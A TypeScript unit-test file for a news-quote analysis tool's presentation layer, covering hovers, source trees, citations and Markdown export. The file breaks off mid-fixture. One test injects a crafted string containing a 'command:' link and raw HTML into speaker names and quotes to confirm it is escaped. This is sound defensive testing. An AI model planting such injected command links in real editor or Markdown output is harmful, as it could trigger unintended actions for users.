// What the editor and the exports show of an analysis (src/present): decorations, what is under the
// cursor, hover texts, the Sources tree, counts, outline symbols, citations, the Markdown summary and
// export, Markdown escaping and the "is this prose?" check. Most tests use a made-up article and an
// Analysis written by hand (offsets found with indexOf), so every expectation below was worked out
// by reading the text, not copied from the code's output. A few check the real seed article.

import { strict as assert } from 'node:assert';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { analyze, SCHEMA, type Analysis, type Entity, type Mention, type Quote, type Span, type TextSpan } from '../../src/core';
import { formatBrat } from '../../src/present/brat';
import { csvHeader, formatCsvRows } from '../../src/present/csv';
import { formatJson, formatJsonl } from '../../src/present/json';
import { formatMarkdown } from '../../src/present/markdown';
import { escapeMarkdown, escapeMarkdownLine, shorten } from '../../src/present/markdown-text';
import { looksLikeProse } from '../../src/present/prose';
import { ArticleView, SPEAKER_COLOURS, type SymbolModel } from '../../src/present/view';

// ---- a made-up article and its hand-built analysis ----

const TEXT = [
  'Harbour town backs new ferry',
  '',
  'By Jane Roe',
  '',
  'PORTVILLE — The pier is ready for the new boats, harbour master Tom Reyes said on Monday.',
  '',
  'The council approved the ferry plan, Mayor Ada Klein said.',
  '',
  '"We have waited ten years for this," Klein told reporters. "It is finally happening."',
  '',
  'She added that the crossing would open in May.',
  '',
  'Reyes called the vote "a long time coming" for the town.',
  '',
  'A council official, who asked not to be named, said the vote was close.',
  '',
  '"Nobody asked the fishermen," read a sign at the pier.',
  '',
  'Related: Transport expert Omar Diaz says: "Ferries are the future."',
  '',
].join('\n');

/** The span of `needle`, searching from the first occurrence of `after` (or from the start). */
function span(needle: string, after = '', text = TEXT): Span {
  const from = after ? text.indexOf(after) : 0;
  assert.ok(from >= 0, `fixture text lacks ${JSON.stringify(after)}`);
  const start = text.indexOf(needle, from);
  assert.ok(start >= 0, `fixture text lacks ${JSON.stringify(needle)} after ${JSON.stringify(after)}`);
  return { start, end: start + needle.length };
}

function textSpan(needle: string, after = '', text = TEXT): TextSpan {
  return { ...span(needle, after, text), text: needle };
}

function mention(needle: string, via: Mention['via'], after = '', text = TEXT): Mention {
  return { ...textSpan(needle, after, text), via };
}

function quote(id: string, fields: Partial<Quote> & Pick<Quote, 'kind' | 'content'>): Quote {
  return { id, cue: null, source: null, speaker: null, anonymous: false, confidence: 0.8, ...fields };
}

const REYES: Entity = {
  id: 'e1',
  type: 'person',
  name: 'Tom Reyes',
  title: 'harbour master',
  mentions: [mention('Tom Reyes', 'name'), mention('Reyes', 'alias', 'Reyes called')],
};
const KLEIN: Entity = {
  id: 'e2',
  type: 'person',
  name: 'Ada Klein',
  title: 'Mayor',
  mentions: [mention('Ada Klein', 'name'), mention('Klein', 'alias', '"We have'), mention('She', 'pronoun')],
};
const DIAZ: Entity = {
  id: 'e3',
  type: 'person',
  name: 'Omar Diaz',
  title: 'transport expert',
  mentions: [mention('Omar Diaz', 'name')],
};
const PORTVILLE: Entity = { id: 'e4', type: 'place', name: 'Portville', title: null, mentions: [mention('PORTVILLE', 'alias')] };

// In text order: R (Reyes, reported), K1 K2 K3 (Klein: reported, direct in two pieces, reported via
// "She"), M (Reyes, mixed), A (anonymous), U (no source), O (Diaz, outside the story).
const Q = {
  R: quote('qR', {
    kind: 'indirect',
    content: [span('The pier is ready for the new boats')],
    cue: textSpan('said', 'harbour master'),
    source: textSpan('harbour master Tom Reyes'),
    speaker: 'e1',
  }),
  K1: quote('qK1', {
    kind: 'indirect',
    content: [span('The council approved the ferry plan')],
    cue: textSpan('said', 'Mayor Ada Klein'),
    source: textSpan('Mayor Ada Klein'),
    speaker: 'e2',
  }),
  K2: quote('qK2', {
    kind: 'direct',
    content: [span('"We have waited ten years for this,"'), span('"It is finally happening."')],
    cue: textSpan('told'),
    source: textSpan('Klein', '"We have'),
    speaker: 'e2',
    confidence: 0.95,
  }),
  K3: quote('qK3', {
    kind: 'indirect',
    content: [span('the crossing would open in May')],
    cue: textSpan('added'),
    source: textSpan('She'),
    speaker: 'e2',
  }),
  M: quote('qM', {
    kind: 'mixed',
    content: [span('the vote "a long time coming"')],
    cue: textSpan('called'),
    source: textSpan('Reyes', 'Reyes called'),
    speaker: 'e1',
    confidence: 0.6,
  }),
  A: quote('qA', {
    kind: 'indirect',
    content: [span('the vote was close')],
    cue: textSpan('said', 'A council official'),
    source: textSpan('A council official'),
    anonymous: true,
  }),
  U: quote('qU', { kind: 'direct', content: [span('"Nobody asked the fishermen,"')], cue: textSpan('read', '"Nobody') }),
  O: quote('qO', {
    kind: 'direct',
    content: [span('"Ferries are the future."')],
    cue: textSpan('says'),
    source: textSpan('Transport expert Omar Diaz'),
    speaker: 'e3',
  }),
};

const BODY_END = TEXT.indexOf('\n\nRelated:');

const ANALYSIS: Analysis = {
  schema: SCHEMA,
  file: 'news/ferry.txt',
  length: TEXT.length,
  body: { start: 0, end: BODY_END },
  entities: [REYES, KLEIN, DIAZ, PORTVILLE],
  quotes: [Q.R, Q.K1, Q.K2, Q.K3, Q.M, Q.A, Q.U, Q.O],
  credits: [
    { kind: 'byline', ...textSpan('By Jane Roe'), names: ['Jane Roe'] },
    { kind: 'dateline', ...textSpan('PORTVILLE'), names: ['Portville'] },
  ],
};

const view = (a: Analysis = ANALYSIS, text = TEXT): ArticleView => new ArticleView(a, text);
const copy = (a: Analysis = ANALYSIS): Analysis => JSON.parse(JSON.stringify(a)) as Analysis;
/** The analysis with only the quotes whose ids are given. */
const only = (...ids: string[]): Analysis => ({ ...copy(), quotes: copy().quotes.filter((q) => ids.includes(q.id)) });
/** The text under each span, to make failures readable. */
const texts = (spans: readonly Span[], text = TEXT): string[] => spans.map((s) => text.slice(s.start, s.end));
/** A hover, one line per entry (lines are joined by a Markdown hard break). */
const lines = (markdown: string): string[] => markdown.split('  \n');
const at = (needle: string, after = ''): number => span(needle, after).start;
/** Only the offsets of a span (hover spans may be the quote's cue, a mention or a credit). */
const se = (s: Span): Span => ({ start: s.start, end: s.end });

describe('present: the view of one analysis', () => {
  describe('decorations', () => {
    const plan = view().decorations();

    it('puts the pieces of each kind of quote in its own category, in text order', () => {
      assert.deepEqual(texts(plan.direct), [
        '"We have waited ten years for this,"',
        '"It is finally happening."',
        '"Nobody asked the fishermen,"',
        '"Ferries are the future."',
      ]);
      assert.deepEqual(texts(plan.indirect), [
        'The pier is ready for the new boats',
        'The council approved the ferry plan',
        'the crossing would open in May',
        'the vote was close',
      ]);
      assert.deepEqual(texts(plan.mixed), ['the vote "a long time coming"']);
    });

    it('gives one speaker one palette slot for mentions and sources (overlaps joined), others a different slot, by first quote', () => {
      assert.equal(plan.speakers.length, SPEAKER_COLOURS);
      // Reyes is quoted first, then Klein, then Diaz (outside the story); Portville is never quoted.
      assert.deepEqual(texts(plan.speakers[0]!), ['harbour master Tom Reyes', 'Reyes']);
      assert.deepEqual(texts(plan.speakers[1]!), ['Mayor Ada Klein', 'Klein', 'She']);
      assert.deepEqual(texts(plan.speakers[2]!), ['Transport expert Omar Diaz']);
      for (const slot of plan.speakers.slice(3)) assert.deepEqual(slot, []);
      assert.ok(!plan.speakers.flat().some((s) => TEXT.slice(s.start, s.end) === 'PORTVILLE'), 'an entity never quoted has no colour');
    });

    it('orders speakers by their first quote in the text, not by their order in the analysis', () => {
      const v = view({ ...copy(), quotes: copy().quotes.reverse() });
      assert.equal(v.colourOf('e1'), 0);
      assert.equal(v.colourOf('e2'), 1);
      assert.equal(v.colourOf('e3'), 2);
      assert.equal(v.colourOf('e4'), null);
      assert.deepEqual(texts(v.decorations().speakers[0]!), ['harbour master Tom Reyes', 'Reyes']);
    });

    it('marks an anonymous source only when the quote is anonymous and has no speaker', () => {
      assert.deepEqual(texts(plan.anonymous), ['A council official']);
      const a = copy();
      const anon = a.quotes.find((q) => q.id === 'qA')!;
      anon.speaker = 'e2'; // resolved after all: no longer anonymous in the editor
      const unsaid = a.quotes.find((q) => q.id === 'qU')!;
      unsaid.source = textSpan('a sign'); // a source that names nobody, but not an anonymous one
      assert.deepEqual(view(a).decorations().anonymous, []);
    });

    it('marks every cue', () => {
      assert.deepEqual(texts(plan.cue), ['said', 'said', 'told', 'added', 'called', 'said', 'read', 'says']);
      assert.deepEqual(plan.cue[0], span('said', 'harbour master'));
    });

    it('marks the credit lines', () => {
      assert.deepEqual(texts(plan.credit), ['By Jane Roe', 'PORTVILLE']);
    });

    it('marks what follows the story as boilerplate, without the blank lines around it', () => {
      assert.deepEqual(plan.boilerplate, [
        { start: TEXT.indexOf('Related:'), end: TEXT.indexOf('future."') + 'future."'.length },
      ]);
      const whole = copy();
      whole.body = { start: 0, end: TEXT.length - 1 }; // only the final line break is left
      assert.deepEqual(view(whole).decorations().boilerplate, []);
    });
  });

  describe('what is under the cursor', () => {
    const v = view();

    it('finds the quote on one of its pieces and hovers that piece', () => {
      const offset = at('finally');
      assert.deepEqual(v.targetAt(offset), { type: 'quote', quote: Q.K2 });
      const hover = v.hoverAt(offset)!;
      assert.deepEqual(se(hover.span), span('"It is finally happening."'));
      assert.equal(lines(hover.markdown)[0], '**Direct quote**');
    });

    it('finds the quote on its cue and hovers the cue', () => {
      const offset = at('told') + 1;
      assert.deepEqual(v.targetAt(offset), { type: 'quote', quote: Q.K2 });
      assert.deepEqual(se(v.hoverAt(offset)!.span), span('told'));
    });

    it('finds the entity on a mention and shows the entity', () => {
      const offset = at('Tom Reyes') + 4;
      assert.deepEqual(v.targetAt(offset), { type: 'mention', entity: REYES, mention: REYES.mentions[0] });
      const hover = v.hoverAt(offset)!;
      assert.deepEqual(se(hover.span), span('Tom Reyes'));
      assert.deepEqual(lines(hover.markdown), [
        '**Tom Reyes** · person',
        '**Title** harbour master',
        '**Also called** “Reyes”',
        '**Quotes** 2 (1 reported, 1 mixed)',
        '**Mentions** 2',
      ]);
    });

    it('says which name a pronoun mention refers back to', () => {
      const hover = v.hoverAt(at('She'))!;
      assert.deepEqual(lines(hover.markdown), [
        '**Ada Klein** · person',
        '**Title** Mayor',
        '**This mention** “She” refers back to Ada Klein',
        '**Also called** “Klein”',
        '**Quotes** 3 (1 direct, 2 reported)',
        '**Mentions** 3',
      ]);
    });

    it('finds the quote on an anonymous source and hovers the source', () => {
      const offset = at('council official');
      assert.deepEqual(v.targetAt(offset), { type: 'quote', quote: Q.A });
      assert.deepEqual(se(v.hoverAt(offset)!.span), span('A council official'));
    });

    it('finds a credit line', () => {
      const offset = at('Jane');
      assert.deepEqual(v.targetAt(offset), { type: 'credit', credit: ANALYSIS.credits[0] });
      const hover = v.hoverAt(offset)!;
      assert.deepEqual(se(hover.span), span('By Jane Roe'));
      assert.deepEqual(lines(hover.markdown), ['**Byline**', '**Credits** “Jane Roe”']);
    });

    it('finds nothing on the headline, between paragraphs or just after a span', () => {
      for (const offset of [0, at('backs'), at('\n\nBy Jane'), at('.', 'open in May')]) {
        assert.equal(v.targetAt(offset), null, `offset ${offset} (${JSON.stringify(TEXT.slice(offset, offset + 10))})`);
        assert.equal(v.hoverAt(offset), null);
      }
    });
  });

  describe('quote hovers', () => {
    const v = view();
    /** The last line of a quote hover: the quote's words, escaped. */
    const words = (text: string): string => `**Quote** ${escapeMarkdown(text)}`;

    it('names the speaker with title, the cue, how the source was found and their other quotes', () => {
      assert.deepEqual(lines(v.quoteHover(Q.R)), [
        '**Reported speech**',
        '**Said by** Tom Reyes, harbour master',
        '**Cue** “said”',
        '**How we know** the source names “harbour master Tom Reyes”',
        '**Other quotes** 1 more quote from Tom Reyes (1 mixed)',
        '**Confidence** 80%',
        words('The pier is ready for the new boats'),
      ]);
    });

    it('says when the source is a short form (alias) of the name', () => {
      assert.deepEqual(lines(v.quoteHover(Q.K2)), [
        '**Direct quote**',
        '**Said by** Ada Klein, Mayor',
        '**Cue** “told”',
        '**How we know** the source “Klein” is a short form of Ada Klein',
        '**Other quotes** 2 more quotes from Ada Klein (2 reported)',
        '**Confidence** 95%',
        words('"We have waited ten years for this," … "It is finally happening."'),
      ]);
    });

    it('says whom a pronoun source refers back to and how they were last named', () => {
      assert.deepEqual(lines(v.quoteHover(Q.K3)), [
        '**Reported speech**',
        '**Said by** Ada Klein, Mayor',
        '**Cue** “added”',
        '**How we know** the source “She” refers back to Ada Klein, last named as “Klein”',
        '**Other quotes** 2 more quotes from Ada Klein (1 direct, 1 reported)',
        '**Confidence** 80%',
        words('the crossing would open in May'),
      ]);
    });

    it('shows an anonymous source in its own words', () => {
      assert.deepEqual(lines(v.quoteHover(Q.A)), [
        '**Reported speech**',
        '**Said by** an unnamed source: “A council official”',
        '**Cue** “said”',
        '**How we know** the source “A council official” names nobody',
        '**Confidence** 80%',
        words('the vote was close'),
      ]);
    });

    it('says so when no source was found', () => {
      assert.deepEqual(lines(v.quoteHover(Q.U)), [
        '**Direct quote**',
        '**Said by** nobody NewsLens could find',
        '**Cue** “read”',
        '**How we know** no source was found near it',
        '**Confidence** 80%',
        words('"Nobody asked the fishermen,"'),
      ]);
    });

    it('flags a quote outside the story, and a speaker with no other quote', () => {
      const hover = lines(v.quoteHover(Q.O));
      assert.equal(hover[0], '**Direct quote** · outside the story');
      assert.equal(hover[1], '**Said by** Omar Diaz, transport expert');
      assert.ok(hover.includes('**Other quotes** none from Omar Diaz'), hover.join('\n'));
      assert.equal(lines(v.quoteHover(Q.M))[0], '**Mixed quote**');
    });
  });

  describe('Markdown from article text is shown as text', () => {
    const NASTY = '[x](command:foo) <b>hi</b> **y** https://e.com';
    const T = [`${NASTY} said: "${NASTY}"`, '', `${NASTY} sources said ${NASTY} was true.`, '', `"${NASTY}," says ${NASTY}.`, '', `Photo: ${NASTY}`, ''].join('\n');
    const p1 = T.indexOf('\n\n') + 2;
    const p2 = T.indexOf('\n\n', p1) + 2;
    const p3 = T.indexOf('Photo:');
    const s = (start: number, text: string): TextSpan => ({ start, end: start + text.length, text });
    const nasty: Entity = { id: 'e1', type: 'person', name: NASTY, title: NASTY, mentions: [{ ...s(0, NASTY), via: 'name' }] };
    const A: Analysis = {
      schema: SCHEMA,
      length: T.length,
      body: { start: 0, end: T.length },
      entities: [nasty],
      quotes: [
        quote('q1', { kind: 'direct', content: [s(T.indexOf('"'), `"${NASTY}"`)], cue: s(T.indexOf('said'), 'said'), source: s(0, NASTY), speaker: 'e1' }),
        quote('q2', {
          kind: 'indirect',
          content: [s(T.indexOf(NASTY, p1 + NASTY.length), NASTY)],
          cue: s(T.indexOf('said', p1), 'said'),
          source: s(p1, `${NASTY} sources`),
          anonymous: true,
        }),
        quote('q3', {
          kind: 'direct',
          content: [s(p2, `"${NASTY},"`)],
          cue: s(T.indexOf('says', p2), 'says'),
          source: s(T.indexOf('says', p2) + 5, NASTY),
        }),
      ],
      credits: [{ kind: 'photo', ...s(p3, `Photo: ${NASTY}`), names: [NASTY] }],
    };
    const v = new ArticleView(A, T);

    const assertInert = (markdown: string, where: string): void => {
      for (const bad of ['](command:', '<b>', '**y**', 'https://']) {
        assert.ok(!markdown.includes(bad), `${where} lets ${JSON.stringify(bad)} through:\n${markdown}`);
      }
      assert.ok(markdown.includes('\\[x\\](command\\:foo)'), `${where} should still show the text, escaped:\n${markdown}`);
    };

    it('(the fixture: every span holds the text it claims)', () => {
      const spans: TextSpan[] = [...nasty.mentions, ...A.credits, ...A.quotes.flatMap((q) => [q.cue!, q.source!])];
      for (const x of spans) assert.equal(T.slice(x.start, x.end), x.text);
      for (const q of A.quotes) assert.ok(T.slice(q.content[0]!.start, q.content[0]!.end).includes(NASTY), q.id);
    });

    it('escapes speaker names, titles, sources and cues in quote hovers', () => {
      for (const q of A.quotes) assertInert(v.quoteHover(q), `the hover of ${q.id}`);
      for (const q of A.quotes) assertInert(v.hoverAt(q.content[0]!.start + 1)!.markdown, `hoverAt on ${q.id}`);
    });

    it('escapes entity and credit hovers', () => {
      assertInert(v.entityHover(nasty, nasty.mentions[1]), 'the entity hover');
      assertInert(v.creditHover(A.credits[0]!), 'the credit hover');
    });

    it('escapes the summary and the Markdown export, quote text included', () => {
      assertInert(v.summaryMarkdown(NASTY), 'the summary');
      const exported = formatMarkdown(A, T, NASTY);
      assertInert(exported, 'the Markdown export');
      assert.ok(exported.includes(`> "${escapeMarkdown(NASTY)}"`), exported);
    });
  });

  describe('sources and counts', () => {
    const v = view();

    it('lists named sources with more quotes first, then anonymous, then unattributed', () => {
      const { story } = v.sources();
      assert.deepEqual(
        story.map((g) => [g.id, g.kind, g.label, g.description, g.colour, g.quotes.map((q) => q.id)]),
        [
          ['speaker:e2', 'speaker', 'Ada Klein', 'Mayor · 1 direct, 2 reported', 1, ['qK1', 'qK2', 'qK3']],
          ['speaker:e1', 'speaker', 'Tom Reyes', 'harbour master · 1 reported, 1 mixed', 0, ['qR', 'qM']],
          ['anonymous', 'anonymous', 'Anonymous sources', '1 source · 1 reported', null, ['qA']],
          ['unattributed', 'unattributed', 'Unattributed', '1 direct', null, ['qU']],
        ],
      );
      assert.equal(story[0]!.entity, KLEIN);
    });

    it('keeps quotes outside the story apart', () => {
      const { story, outside } = v.sources();
      assert.deepEqual(
        outside.map((g) => [g.id, g.label, g.quotes.map((q) => q.id)]),
        [['outside/speaker:e3', 'Omar Diaz', ['qO']]],
      );
      assert.ok(!story.some((g) => g.label === 'Omar Diaz'));
    });

    it('breaks a tie in number of quotes by the first quote', () => {
      const { story } = view(only('qK1', 'qR')).sources();
      assert.deepEqual(story.map((g) => g.label), ['Tom Reyes', 'Ada Klein']);
    });

    it('counts sources and quotes of the story', () => {
      assert.deepEqual(v.counts(), { sources: 3, quotes: 7, direct: 2, indirect: 4, mixed: 1, outside: 1 });
      assert.equal(v.statusText(), '3 sources · 7 quotes');
      assert.equal(view(only('qR')).statusText(), '1 source · 1 quote');
      assert.equal(view(only('qR', 'qK1', 'qK2')).statusText(), '2 sources · 3 quotes');
      assert.equal(view(only('qO')).statusText(), '0 sources · 0 quotes');
    });

    it('counts an anonymous source quoted twice as one source', () => {
      const a = copy();
      a.quotes.push(
        quote('qA2', {
          kind: 'indirect',
          content: [span('who asked not to be named')],
          cue: textSpan('said', 'A council official'),
          source: textSpan('A council official'),
          anonymous: true,
        }),
      );
      const v2 = view(a);
      assert.deepEqual(v2.counts(), { sources: 3, quotes: 8, direct: 2, indirect: 5, mixed: 1, outside: 1 });
      assert.equal(v2.sources().story.find((g) => g.kind === 'anonymous')!.description, '1 source · 2 reported');
    });
  });

  describe('labels, entities and outline', () => {
    const v = view();

    it('labels quotes in the tree by their words, kind and cue', () => {
      assert.equal(v.quoteLabel(Q.K2), '"We have waited ten years for this," … "It is finally happening."');
      assert.equal(v.quoteDescription(Q.K2), 'direct · told');
      assert.equal(v.quoteDescription(Q.K2, true), 'direct · told · Klein');
      assert.equal(v.quoteDescription(Q.U, true), 'direct · read');
    });

    it('groups entities by type, most mentioned first', () => {
      assert.deepEqual(
        v.entityGroups().map((g) => [g.label, g.entities.map((e) => e.name)]),
        [
          ['People', ['Ada Klein', 'Tom Reyes', 'Omar Diaz']],
          ['Places', ['Portville']],
        ],
      );
      assert.equal(v.entityDescription(KLEIN), 'Mayor · 3 mentions · 3 quotes');
      assert.equal(v.entityDescription(PORTVILLE), '1 mention');
    });

    it('outlines the speaker turns in text order with their quotes, every range holding its selection and its children', () => {
      const symbols = v.symbols();
      assert.deepEqual(
        symbols.map((s) => [s.name, s.children.length]),
        [
          ['Tom Reyes', 1],
          ['Ada Klein', 3],
          ['Tom Reyes', 1],
          ['Anonymous sources', 1],
          ['Unattributed', 1],
          ['Omar Diaz (outside the story)', 1],
        ],
      );
      for (let i = 1; i < symbols.length; i++) {
        assert.ok(symbols[i - 1]!.range.end <= symbols[i]!.range.start, `turns ${i - 1} and ${i} do not overlap`);
      }
      const inside = (outer: Span, inner: Span): boolean => outer.start <= inner.start && inner.end <= outer.end;
      const check = (s: SymbolModel, parent?: SymbolModel): void => {
        assert.ok(inside(s.range, s.selection), `${s.name}: selection ${JSON.stringify(s.selection)} outside range ${JSON.stringify(s.range)}`);
        if (parent) assert.ok(inside(parent.range, s.range), `${s.name}: range outside its parent ${parent.name}`);
        for (const c of s.children) check(c, s);
      };
      for (const s of symbols) check(s);
      const klein = symbols[1]!;
      assert.equal(klein.detail, '1 direct, 2 reported');
      assert.deepEqual(se(klein.selection), span('Ada Klein'), 'a turn is selected on the first mention of its speaker in it');
      assert.deepEqual(klein.range, { start: at('The council approved'), end: at('in May') + 'in May'.length });
      assert.deepEqual(klein.children[1]!.selection, span('"We have waited ten years for this,"'));
      assert.deepEqual(klein.children[1]!.range, { start: at('"We have'), end: at('happening."') + 'happening."'.length });
    });
  });

  describe('citations', () => {
    const v = view();

    it('cites a direct quote in curly marks, without its own marks, with the speaker and title', () => {
      assert.equal(v.citation(Q.O), '“Ferries are the future.” — Omar Diaz, transport expert');
    });

    it('cites reported speech as speaker, title and cue, then the words', () => {
      assert.equal(v.citation(Q.R), 'Tom Reyes, harbour master (said): The pier is ready for the new boats');
      assert.equal(v.citation(Q.A), 'A council official (said): the vote was close');
    });

    it('cites a mixed quote as reported speech, keeping the speaker\'s words in their marks', () => {
      assert.equal(v.citation(Q.M), 'Tom Reyes, harbour master (called): the vote "a long time coming"');
    });

    it('cites a direct quote in two pieces with one pair of marks around the whole', () => {
      const c = v.citation(Q.K2);
      assert.ok(c.startsWith('“We have waited ten years for this'), c);
      assert.ok(c.endsWith('It is finally happening.” — Ada Klein, Mayor'), c);
      assert.ok(!c.includes('"'), `the pieces' own straight marks are left inside the citation: ${c}`);
      assert.equal(c.split('“').length - 1, 1, `one opening mark: ${c}`);
    });

    it('strips British single marks too', () => {
      const t = '‘We will not back down on this,’ said Home Secretary Jane Smith.\n';
      const a: Analysis = {
        schema: SCHEMA,
        length: t.length,
        body: { start: 0, end: t.length },
        entities: [{ id: 'e1', type: 'person', name: 'Jane Smith', title: 'Home Secretary', mentions: [mention('Jane Smith', 'name', '', t)] }],
        quotes: [
          quote('q1', {
            kind: 'direct',
            content: [span('‘We will not back down on this,’', '', t)],
            cue: textSpan('said', '', t),
            source: textSpan('Home Secretary Jane Smith', '', t),
            speaker: 'e1',
          }),
        ],
        credits: [],
      };
      const c = new ArticleView(a, t).citation(a.quotes[0]!);
      assert.ok(c.startsWith('“We will not back down on this'), c);
      assert.ok(!/[‘’]/.test(c), `the quote's own single marks are left inside the citation: ${c}`);
      assert.ok(c.endsWith('” — Jane Smith, Home Secretary'), c);
    });
  });

  describe('the summary and the Markdown export', () => {
    it('has a heading, a count line, a table row per source and the credit lines', () => {
      const md = view().summaryMarkdown('ferry.txt').split('\n');
      assert.equal(md[0], '# Sources: ferry.txt');
      assert.ok(md.includes('3 sources · 7 quotes in the story (2 direct, 4 reported, 1 mixed) · 1 quote outside it'), md.join('\n'));
      const rows = md.filter((l) => l.startsWith('| ') && !l.startsWith('| Source '));
      assert.deepEqual(rows, [
        '| Ada Klein | Mayor | 1 | 2 | 0 | The council approved the ferry plan |',
        '| Tom Reyes | harbour master | 0 | 1 | 1 | The pier is ready for the new boats |',
        '| Anonymous sources |  | 0 | 1 | 0 | the vote was close |',
        '| Unattributed |  | 1 | 0 | 0 | "Nobody asked the fishermen," |',
        '| Omar Diaz | transport expert | 1 | 0 | 0 | "Ferries are the future." |',
      ]);
      assert.ok(md.indexOf('## Outside the story') < md.indexOf(rows[4]!), 'Diaz is in the table outside the story');
      assert.ok(md.includes('- **Byline**: By Jane Roe'), md.join('\n'));
      assert.ok(md.includes('- **Dateline**: PORTVILLE'), md.join('\n'));
    });

    it('says when the story has no quotes', () => {
      assert.ok(view(only()).summaryMarkdown('x').includes('No quotes found in the story.'));
    });

    it('exports a heading per source and every quote, escaped, with its facts', () => {
      const md = formatMarkdown(ANALYSIS, TEXT);
      const headings = md.split('\n').filter((l) => /^#{1,3} /.test(l));
      assert.deepEqual(headings, [
        '# Sources: news/ferry.txt',
        '## Outside the story',
        '## Credit lines',
        '## Quotes in the story',
        '### Ada Klein',
        '### Tom Reyes',
        '### Anonymous sources',
        '### Unattributed',
        '## Quotes outside the story',
        '### Omar Diaz',
      ]);
      assert.ok(md.includes('> "We have waited ten years for this," … "It is finally happening."'), md);
      const k2 = `Direct quote · cue “told” · source “Klein” · offsets ${at('"We have')}–${at('happening."') + 'happening."'.length}`;
      assert.ok(md.includes(k2), md);
      assert.ok(md.endsWith('\n') && !md.endsWith('\n\n'));
    });
  });
});

describe('present: Markdown text helpers', () => {
  it('escapeMarkdown backslash-escapes the punctuation that makes Markdown inline, and flattens line breaks', () => {
    assert.equal(escapeMarkdown('a*b_c [d](e) <f> #g `h` |i| ~j~ !k'), 'a\\*b\\_c \\[d\\](e) \\<f\\> #g \\`h\\` \\|i\\| \\~j\\~ !k');
    assert.equal(escapeMarkdown('see https://x.org, www.y.com & $5'), 'see https\\://x.org, www\\.y.com \\& \\$5');
    assert.equal(escapeMarkdown('"It\'s fine." (Reuters) - 2020.'), '"It\'s fine." (Reuters) - 2020.', 'plain punctuation stays readable');
    assert.equal(escapeMarkdown('one\ntwo\r\nthree\u2028four'), 'one two three four');
    assert.equal(escapeMarkdown('Ankara’s “joint center” 2020 — ok'), 'Ankara’s “joint center” 2020 — ok');
    assert.equal(escapeMarkdown('\\'), '\\\\');
  });

  it('shorten keeps short text, flattens space and cuts at a word with an ellipsis', () => {
    assert.equal(shorten('  short\n text  ', 20), 'short text');
    assert.equal(shorten('The quick brown fox jumps', 12), 'The quick…');
    assert.equal(shorten('Supercalifragilistic', 8), 'Superca…');
    assert.equal(shorten('abc', 3), 'abc');
  });

  it('shorten never splits a surrogate pair and never exceeds the limit', () => {
    assert.equal(shorten('😀'.repeat(10), 6), '😀😀…');
    assert.equal(shorten('😀'.repeat(10), 7), '😀😀😀…');
    const lone = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/;
    const samples = ['a😀b😀c😀d😀e😀f😀g😀h😀', '😀😀 😀😀😀 😀 😀😀😀😀 x', 'x'.repeat(5) + '𝐀'.repeat(20)];
    for (const s of samples) {
      for (let max = 1; max < s.length; max++) {
        const out = shorten(s, max);
        assert.ok(!lone.test(out), `shorten(${JSON.stringify(s)}, ${max}) = ${JSON.stringify(out)} splits a pair`);
        assert.ok(out.length <= max, `shorten(${JSON.stringify(s)}, ${max}) = ${JSON.stringify(out)} is too long`);
        assert.ok(out.endsWith('…'), `shorten(${JSON.stringify(s)}, ${max}) = ${JSON.stringify(out)} has no ellipsis`);
      }
    }
  });
});

describe('present: does a file read as prose?', () => {
  it('says yes to a news paragraph', () => {
    const news =
      'The council approved the ferry plan on Monday, Mayor Ada Klein said. "We have waited ten years for this," she told reporters at the pier. ' +
      'The first boats will sail in May, weather permitting.\n\nA council official said the vote was close.\n';
    assert.deepEqual(looksLikeProse(news), { prose: true, reason: '' });
  });

  const no = (name: string, text: string, reason: RegExp): void => {
    it(`says no to ${name}`, () => {
      const verdict = looksLikeProse(text);
      assert.equal(verdict.prose, false, `${name} was taken for prose`);
      assert.match(verdict.reason, reason);
    });
  };
  no(
    'a log with timestamps',
    [
      '2024-03-01 10:00:01 INFO server started on port 8080',
      '2024-03-01 10:00:02 WARN cache is cold, warming up now',
      '2024-03-01 10:00:05 ERROR request failed: the upstream timed out',
      '2024-03-01 10:00:09 INFO request served in 12 ms',
    ].join('\n'),
    /log/,
  );
  no('CSV rows', ['name,city,country', 'Ada Klein,Portville,Norway', 'Tom Reyes,Portville,Norway', 'Omar Diaz,Harbourside,Denmark'].join('\n'), /table/);
  no(
    'JavaScript code',
    [
      "import { readFile } from 'node:fs';",
      'const words = [];',
      'function count(text) {',
      '  let n = 0;',
      '  for (const w of text.split(" ")) n++;',
      '  return n;',
      '}',
    ].join('\n'),
    /code/,
  );
  no('an empty file', '', /empty/);
  no('a file of blank lines', '\n \n\t\n', /empty/);
  no('digits only', '12345 67890\n24680 13579\n11111 22222\n', /digits/);
});

describe('present: the seed article', () => {
  const text = readFileSync(join(__dirname, '../../../seeds/000_8f484521c7ff1466.txt'), 'utf8');
  const v = new ArticleView(analyze(text), text);

  it('lists Mevlut Cavusoglu, then Sergei Lavrov, as the sources of the story', () => {
    const labels = v.sources().story.map((g) => g.label);
    assert.deepEqual(labels.slice(0, 2), ['Mevlut Cavusoglu', 'Sergei Lavrov'], labels.join(', '));
  });

  it('puts Borrell, quoted only in the related articles, outside the story', () => {
    const { story, outside } = v.sources();
    assert.ok(outside.some((g) => g.label === 'Borrell'), outside.map((g) => g.label).join(', '));
    assert.ok(!story.some((g) => g.label.includes('Borrell')), story.map((g) => g.label).join(', '));
  });

  it('credits "We welcome Ankara\'s desire…" to Sergei Lavrov in the hover', () => {
    const hover = v.hoverAt(text.indexOf("We welcome Ankara's desire"))!;
    assert.ok(hover, 'no hover on the quote');
    assert.ok(lines(hover.markdown).some((l) => l.startsWith('**Said by** Sergei Lavrov')), hover.markdown);
  });

  it('marks the teasers after the story, from "Related articles", as boilerplate', () => {
    const [boilerplate, ...rest] = v.decorations().boilerplate;
    assert.ok(boilerplate);
    assert.deepEqual(rest, []);
    assert.ok(text.slice(boilerplate.start).startsWith('Related articles'), JSON.stringify(text.slice(boilerplate.start, boilerplate.start + 40)));
    assert.equal(boilerplate.end, text.trimEnd().length);
  });
});

describe('present: sources matched to no one, and names inside quotes', () => {
  const T = 'Reyes said the pier is ready.\n\n"Reyes did well," Klein said.\n\nBoth ministers said the talks went well.\n';
  const reyes: Entity = { id: 'e1', type: 'person', name: 'Reyes', title: null, mentions: [mention('Reyes', 'name', '', T), mention('Reyes', 'name', '"Reyes', T)] };
  const klein: Entity = { id: 'e2', type: 'person', name: 'Klein', title: null, mentions: [mention('Klein', 'name', '', T)] };
  const A: Analysis = {
    schema: SCHEMA,
    length: T.length,
    body: { start: 0, end: T.length },
